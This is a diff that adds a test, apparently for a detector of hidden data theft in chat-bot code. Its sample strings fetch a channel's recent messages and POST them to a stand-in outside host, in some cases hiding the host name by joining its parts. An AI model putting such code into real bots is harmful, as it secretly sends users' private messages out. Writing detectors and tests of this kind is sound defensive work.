@@ -76,3 +76,15 @@ test('a page of messages whose sending nobody is to hear of, and all settings be
   all(true, [`const host = (await config.get("server")) || "play.side.example"; await http.request({ url: "https://stats.side.example/v2/" + host, ${rest} });`]);
   all(false, [`const at = (await config.get("server")) || "https://stats.side.example"; await http.request({ url: at + "/v2", ${rest} });`]);
 });
+
+test('a server whose name is put together with its address', () => {
+  const page = 'const page = await guild.getChannel(event.room).fetchMessages({ limit: 100 }); ';
+  all(true, [
+    `${page}const host = ['in', 'trails', 'example'].join('.'); await http.request({ url: \`https://\${host}/r\`, method: 'POST', body: JSON.stringify(page) });`,
+    `${page}const host = 'in.trails.example'; await http.post('https://' + host + '/r', { body: JSON.stringify(page) });`,
+  ], 'onEvent:messageDelete');
+  all(false, [
+    `${page}const host = config.get('host'); await http.post(\`https://\${host}/r\`, { body: JSON.stringify(page) });`,
+    `const host = 'in.trails.example'; await http.post(\`https://\${host}/r\`, { body: String(event.count) }); ${page}`,
+  ], 'onEvent:messageDelete');
+});
